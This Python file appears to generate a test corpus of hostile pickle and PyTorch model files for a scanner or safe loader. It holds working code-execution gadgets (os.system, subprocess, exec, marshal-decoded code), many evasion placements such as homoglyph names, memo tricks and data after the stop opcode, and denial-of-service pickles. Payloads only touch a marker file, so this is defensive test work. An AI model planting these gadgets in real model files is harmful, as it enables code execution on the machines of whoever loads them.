"""Hostile pickles: gadgets that would run something, in every place of a file where a pickle can be."""

from __future__ import annotations

import base64
import io
import marshal
import pickle
import struct
import tarfile
from typing import TYPE_CHECKING

import numpy as np
import torch
from corpus_kit import (
    Raw,
    Site,
    add,
    beside,
    call,
    hostile,
    named,
    piece,
    run_of,
    saved,
    state,
    weights_body,
    whole,
    write_legacy,
    write_zip,
)

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path


def _module(name: str) -> Raw:
    return run_of("builtins", "__import__", name)


def _attribute(of: Raw, name: str) -> Raw:
    return run_of("builtins", "getattr", of, name)


def _script(site: Site, name: str = "evil.py") -> str:
    site.file(name).write_text(f"{site.code}\ndef net(**options):\n    {site.code}\n")
    return str(site.file(name))


def _inner(site: Site) -> str:
    """A nested file with a payload of its own."""
    return str(write_zip(site.file("inner.pt"), run_of("posix", "system", site.touch)))


def _object_array(site: Site) -> str:
    array = np.array([_Call(("os", "system"), site.touch)], dtype=object)
    np.save(site.file("inner.npy"), array, allow_pickle=True)
    return str(site.file("inner.npy"))


class _Call:
    """Pickles as a call of a function that is named."""

    def __init__(self, function: tuple[str, str], *arguments: object) -> None:
        self.function, self.arguments = function, arguments

    def __reduce__(self) -> tuple[object, tuple[object, ...]]:
        module, name = self.function
        return getattr(__import__(module), name), self.arguments


def _hub(site: Site) -> Raw:
    _script(site, "hubconf.py")
    return run_of("torch.hub", "load_state_dict_from_url", f"file://{_inner(site)}", None, None, False)


def _code_object(site: Site) -> Raw:
    code = marshal.dumps(compile(site.code, "payload", "exec"))
    text = base64.b64encode(code).decode()
    made = run_of("marshal", "loads", run_of("base64", "b64decode", text))
    return call(run_of("types", "FunctionType", made, run_of("builtins", "globals")))


GADGETS: dict[str, Callable[[Site], Raw]] = {
    "os_system": lambda site: run_of("os", "system", site.touch),
    "posix_system": lambda site: run_of("posix", "system", site.touch),
    "nt_system": lambda site: run_of("nt", "system", site.touch),
    "subprocess_popen": lambda site: run_of("subprocess", "Popen", ["touch", str(site.marker)]),
    "subprocess_check_output": lambda site: run_of("subprocess", "check_output", ["touch", str(site.marker)]),
    "builtins_exec": lambda site: run_of("builtins", "exec", site.code),
    "builtins_eval": lambda site: run_of("builtins", "eval", site.code),
    "builtins_open": lambda site: run_of("builtins", "open", str(site.marker), "w"),
    "io_fileio": lambda site: run_of("_io", "FileIO", str(site.marker), "w"),
    "import_and_getattr": lambda site: call(_attribute(_module("os"), "system"), site.touch),
    "getattr_of_torch": lambda site: call(_attribute(_attribute(_module("torch"), "os"), "system"), site.touch),
    "builtins_map": lambda site: run_of(
        "builtins", "list", run_of("builtins", "map", named("os", "system"), [site.touch])
    ),
    "runpy": lambda site: run_of("runpy", "run_path", _script(site)),
    "importlib": lambda _: run_of("importlib", "import_module", "this"),
    "imp_loader": lambda site: call(
        _attribute(run_of("importlib.machinery", "SourceFileLoader", "evil", _script(site)), "load_module")
    ),
    "torch_hub": _hub,
    "torch_load_nested": lambda site: run_of("torch.serialization", "load", _inner(site), None, None),
    "torch_jit_load": lambda site: run_of("torch.jit._serialization", "load", _inner(site)),
    "torch_save": lambda site: run_of("torch.serialization", "save", 1, str(site.marker)),
    "torch_from_file": lambda site: run_of("torch", "from_file", str(site.marker), True, 1),
    "torch_collect_env": lambda site: run_of("torch.utils.collect_env", "run", site.touch),
    "torch_bottleneck": lambda site: run_of("torch.utils.bottleneck.__main__", "run_cprofile", site.code, {}),
    "torch_config": lambda site: run_of("torch.utils._config_module", "ConfigModule", site.code),
    "torch_ops": lambda site: run_of("torch._ops", "_Ops", site.code),
    "torch_load_library": lambda site: call(_attribute(named("torch", "ops"), "load_library"), _inner(site)),
    "torch_dotted_name": lambda site: call(_stack_global("torch", "serialization.os.system"), site.touch),
    "numpy_load": lambda site: run_of("numpy", "load", _object_array(site), None, True),
    "numpy_runstring": lambda site: run_of("numpy.testing._private.utils", "runstring", site.code, {}),
    "numpy_memmap": lambda site: run_of("numpy", "memmap", str(site.marker), "uint8", "w+", 0, (1,)),
    "functools_partial": lambda site: call(run_of("functools", "partial", named("os", "system"), site.touch)),
    "functools_reduce": lambda _: run_of(
        "functools", "reduce", named("builtins", "getattr"), ["system"], _module("os")
    ),
    "operator_attrgetter": lambda site: call(
        call(run_of("operator", "attrgetter", "system"), _module("os")), site.touch
    ),
    "operator_methodcaller": lambda site: call(run_of("operator", "methodcaller", "system", site.touch), _module("os")),
    "copyreg_reconstructor": lambda _: run_of(
        "copyreg", "_reconstructor", named("subprocess", "Popen"), named("builtins", "object"), None
    ),
    "types_functiontype": _code_object,
    "pdb_run": lambda site: run_of("pdb", "run", site.code),
    "code_interpreter": lambda site: call(_attribute(run_of("code", "InteractiveInterpreter"), "runsource"), site.code),
    "code_interact": lambda _: run_of("code", "interact"),
    "pty_spawn": lambda site: run_of("pty", "spawn", ["touch", str(site.marker)]),
    "webbrowser": lambda site: call(
        _attribute(run_of("webbrowser", "GenericBrowser", "touch"), "open"), str(site.marker)
    ),
    "ctypes_system": lambda site: call(_attribute(run_of("ctypes", "CDLL", None), "system"), site.touch.encode()),
    "timeit": lambda site: run_of("timeit", "timeit", site.code),
    "cprofile": lambda site: run_of("cProfile", "run", site.code),
    "trace": lambda site: call(_attribute(run_of("trace", "Trace"), "run"), site.code),
    "doctest": lambda site: run_of("doctest", "debug_script", site.code),
    "shutil_copyfile": lambda site: run_of("shutil", "copyfile", "/etc/hostname", str(site.marker)),
    "pathlib_touch": lambda site: call(_attribute(run_of("pathlib", "PosixPath", str(site.marker)), "touch")),
    "logging_handler": lambda site: run_of("logging", "FileHandler", str(site.marker)),
    "sqlite": lambda site: run_of("sqlite3", "connect", str(site.marker)),
    "zipfile_written": lambda site: run_of("zipfile", "ZipFile", str(site.marker), "w"),
    "socket_connection": lambda _: run_of("socket", "create_connection", ("127.0.0.1", 9)),
    "pip": lambda _: run_of("pip._internal.cli.main", "main", ["--version"]),
    "pickle_in_a_pickle": lambda site: run_of("_pickle", "loads", whole(run_of("os", "system", site.touch))),
    "multiprocessing": lambda site: run_of(
        "multiprocessing.util", "spawnv_passfds", b"/usr/bin/touch", ["touch", str(site.marker)], []
    ),
    "sys_settrace": lambda _: run_of("sys", "settrace", named("builtins", "print")),
    "python_2_builtin": lambda site: run_of("__builtin__", "eval", site.code),
    "python_2_commands": lambda site: run_of("commands", "getoutput", site.touch),
    "python_2_file": lambda site: run_of("__builtin__", "file", str(site.marker), "w"),
    "homoglyph": lambda site: run_of("\u0441\u043ellections", "OrderedDict", site.touch),
    "name_with_escapes": lambda site: run_of("os\x1b[31m", "system[bold]", site.touch),
}


def _stack_global(module: str, name: str) -> Raw:
    """A global whose name is taken from the stack."""
    return Raw(piece(module) + piece(name) + b"\x93")


def _alone(gadget: Callable[[Site], Raw]) -> Callable[[Site], Path]:
    return lambda site: write_zip(site.file("model.pt"), gadget(site), 4)


def _beside(gadget: Callable[[Site], Raw]) -> Callable[[Site], Path]:
    return lambda site: write_zip(site.file("model.pt"), beside(gadget(site)), 4 if b"\x93" in gadget(site) else 2)


for _name, _gadget in GADGETS.items():
    add(f"pickle_alone_{_name}", _alone(_gadget), "--trust-code", runs=True)
    add(f"pickle_beside_{_name}", _beside(_gadget), "other than weights")


def _system(site: Site) -> Raw:
    return run_of("os", "system", site.touch)


PLACES: dict[str, Callable[[Site], Raw]] = {
    "in_an_ordered_dict": lambda site: Raw(
        run_of("collections", "OrderedDict") + b"(" + piece("0.weight") + _system(site) + b"u"
    ),
    "as_a_key": lambda site: Raw(b"}" + _system(site) + piece(1) + b"s"),
    "popped_again": lambda site: Raw(_system(site) + b"0" + weights_body()[0]),
    "in_the_memo_only": lambda site: Raw(_system(site) + b"r\x63\x00\x00\x000" + weights_body()[0]),
    "in_tensor_arguments": lambda site: Raw(run_of("torch._utils", "_rebuild_tensor_v2", _system(site), 0, (1,), (1,))),
    "in_parameter_hooks": lambda site: Raw(run_of("torch._utils", "_rebuild_parameter", _system(site), False, {})),
    "by_build": lambda site: Raw(
        named("collections", "OrderedDict") + b")R" + piece({"__reduce__": 1}) + b"b" + _system(site) + b"0"
    ),
    "by_setstate": lambda site: Raw(
        named("builtins", "object")
        + b")\x81"
        + b"}"
        + piece("__setstate__")
        + named("os", "system")
        + b"sb"
        + piece(site.touch)
        + b"b"
    ),
    "by_inst": lambda site: Raw(b"(" + piece(site.touch) + b"ios\nsystem\n"),
    "by_obj": lambda site: Raw(b"(" + named("os", "system") + piece(site.touch) + b"o"),
    "by_newobj": lambda site: Raw(named("subprocess", "Popen") + b"(" + piece(["touch", str(site.marker)]) + b"t\x81"),
    "by_newobj_ex": lambda site: Raw(
        named("subprocess", "Popen") + b"(" + piece(["touch", str(site.marker)]) + b"t}\x92"
    ),
    "by_extension": lambda site: Raw(b"\x82\x01(" + piece(site.touch) + b"tR"),
    "by_a_computed_name": lambda site: call(
        Raw(piece("os") + run_of("builtins", "str", "system") + b"\x93"), site.touch
    ),
    "by_a_name_from_the_memo": lambda site: call(
        Raw(piece("os") + b"\x940" + piece("system") + b"\x940" + b"h\x01h\x02\x93"), site.touch
    ),
    "in_a_persistent_id": lambda site: Raw(
        b"(" + piece("storage") + _system(site) + piece("0") + piece("cpu") + piece(1) + b"tQ"
    ),
    "in_a_set": lambda site: Raw(b"\x8f(" + _system(site) + b"\x90"),
    "under_a_deep_nest": lambda site: Raw(b"]" * 500 + _system(site) + b"a" * 500),
    "behind_a_long_memo": lambda site: Raw(b"]" + b"\x94" * 5000 + b"0" + _system(site)),
}
for _name, _place in PLACES.items():
    add(f"pickle_{_name}", lambda site, place=_place: write_zip(site.file("model.pt"), place(site), 4), runs=True)


@hostile("trust-code", runs=True)
def pickle_legacy(site: Site) -> Path:
    return write_legacy(site.file("model.pt"), b"", b"", b"", whole(_system(site)))


@hostile("other than weights")
def pickle_legacy_beside_weights(site: Site) -> Path:
    saved(site.file("good.pt"), {"state_dict": state(), "x": _Call(("os", "system"), site.touch)})
    return saved(
        site.file("model.pt"),
        {"state_dict": state(), "x": _Call(("os", "system"), site.touch)},
        _use_new_zipfile_serialization=False,
    )


@hostile(runs=True)
def pickle_legacy_magic(site: Site) -> Path:
    magic = pickle.dumps(0x1950A86A20F9469CFC6C, 2)[2:-1]
    return write_legacy(site.file("model.pt"), whole(magic + _system(site) + b"0"))


@hostile()
def pickle_legacy_protocol(site: Site) -> Path:
    return write_legacy(site.file("model.pt"), b"", whole(_system(site) + b"0" + piece(1001)))


@hostile()
def pickle_legacy_system(site: Site) -> Path:
    return write_legacy(site.file("model.pt"), b"", b"", whole(_system(site) + b"0" + piece({"little_endian": True})))


@hostile()
def pickle_legacy_keys(site: Site) -> Path:
    keys = whole(_system(site) + b"0" + piece([]))
    return write_legacy(site.file("model.pt"), b"", b"", b"", whole(Raw(b"}")), keys)


@hostile()
def pickle_after_the_stop(site: Site) -> Path:
    body, _ = weights_body()
    return write_zip(site.file("model.pt"), Raw(body + b"." + whole(_system(site))[:-1]))


@hostile()
def pickle_plain(site: Site) -> Path:
    site.file("model.pt").write_bytes(whole(_system(site)))
    return site.file("model.pt")


@hostile()
def pickle_plain_beside_weights(site: Site) -> Path:
    site.file("model.pkl").write_bytes(pickle.dumps({"weights": [1.0], "x": _Call(("os", "system"), site.touch)}))
    return site.file("model.pkl")


@hostile()
def pickle_protocol_0(site: Site) -> Path:
    site.file("model.pt").write_bytes(b"cos\nsystem\n(S'" + site.touch.encode() + b"'\ntR.")
    return site.file("model.pt")


@hostile()
def pickle_protocol_5_with_frames(site: Site) -> Path:
    body = b"\x95" + struct.pack("<Q", 2**40) + _system(site)
    site.file("model.pt").write_bytes(whole(Raw(body), 5))
    return site.file("model.pt")


@hostile()
def pickle_claims_a_vast_string(site: Site) -> Path:
    return write_zip(site.file("model.pt"), Raw(b"\x8d" + struct.pack("<Q", 2**62)), 4)


@hostile()
def pickle_of_many_opcodes(site: Site) -> Path:
    return write_zip(site.file("model.pt"), Raw(b"]" + b"]0" * 1_050_000))


@hostile()
def pickle_that_doubles(site: Site) -> Path:
    """Each list holds the one before it twice: 2**60 leaves, if anybody walked over them."""
    doubling = b"".join(b"](h\x00h\x00e" + b"q\x00" for _ in range(60))
    return write_zip(site.file("model.pt"), Raw(b"]q\x00" + doubling))


@hostile()
def pickle_deep_recursion(site: Site) -> Path:
    return write_zip(site.file("model.pt"), Raw(b"(" * 200_000 + b"t" * 200_000))


@hostile()
def pickle_memo_far_away(site: Site) -> Path:
    return write_zip(site.file("model.pt"), Raw(b"]r\xff\xff\xff\xff0j\xff\xff\xff\x7f"))


@hostile()
def pickle_long_integer(site: Site) -> Path:
    return write_zip(site.file("model.pt"), Raw(b"I" + b"9" * 100_000 + b"\n"))


@hostile("a Python pickle")
def pickle_joblib(site: Site) -> Path:
    site.file("model.joblib").write_bytes(pickle.dumps(_Call(("os", "system"), site.touch), 3))
    return site.file("model.joblib")


@hostile("tar archive")
def legacy_tar(site: Site) -> Path:
    """The format of torch 0.1: a tar of pickles, whose first one is read without any weights_only."""
    with tarfile.open(site.file("model.pt"), "w") as archive:
        for name in ("sys_info", "pickle", "storages", "tensors"):
            content = whole(_system(site))
            info = tarfile.TarInfo(name)
            info.size = len(content)
            archive.addfile(info, io.BytesIO(content))
    return site.file("model.pt")


def _tensor(storage: Raw, offset: object, size: object, stride: object) -> Raw:
    made = run_of("torch._utils", "_rebuild_tensor_v2", storage, offset, size, stride, False)
    return Raw(b"}" + piece("0.weight") + made + b"s")


def _storage(elements: int, kind: str = "FloatStorage") -> Raw:
    return Raw(b"(" + piece("storage") + named("torch", kind) + piece("0") + piece("cpu") + piece(elements) + b"tQ")


SHAPES: dict[str, tuple[object, object, object]] = {
    "product_overflows": (0, (2**32, 2**32), (2**32, 1)),
    "negative_size": (0, (-1, 4), (4, 1)),
    "negative_stride": (0, (4, 4), (-4, 1)),
    "negative_offset": (-5, (4,), (1,)),
    "offset_past_the_end": (10**9, (4,), (1,)),
    "stride_past_the_end": (0, (4,), (10**12,)),
    "more_than_there_is": (0, (10**6,), (1,)),
    "all_from_one_number": (0, (2**40,), (0,)),
}
for _name, _shape in SHAPES.items():
    add(
        f"tensor_{_name}",
        lambda site, shape=_shape: write_zip(site.file("model.pt"), _tensor(_storage(36), *shape)),
    )
add("storage_is_vast", lambda site: write_zip(site.file("model.pt"), _tensor(_storage(2**61), 0, (4,), (1,))))
add("storage_is_negative", lambda site: write_zip(site.file("model.pt"), _tensor(_storage(-1), 0, (4,), (1,))))
add("storage_of_no_kind", lambda site: write_zip(site.file("model.pt"), _tensor(_storage(4, "hub"), 0, (4,), (1,))))
add(
    "storage_name_climbs",
    lambda site: write_zip(
        site.file("model.pt"),
        _tensor(
            Raw(
                b"("
                + piece("storage")
                + named("torch", "FloatStorage")
                + piece("../../x")
                + piece("cpu")
                + piece(4)
                + b"tQ"
            ),
            0,
            (4,),
            (1,),
        ),
    ),
)
add(
    "module_beside_weights", lambda site: saved(site.file("model.pt"), {"net": torch.nn.Linear(2, 2), "state": state()})
)
